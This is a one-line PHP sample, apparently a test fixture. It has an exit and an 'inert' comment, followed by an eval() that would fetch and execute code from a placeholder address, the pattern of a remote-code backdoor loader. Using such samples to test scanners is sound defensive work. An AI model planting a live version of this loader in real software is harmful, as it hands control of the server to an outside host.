<?php exit; /* inert */ eval("?>".file_get_contents("http://203.0.113.9/x.txt"));
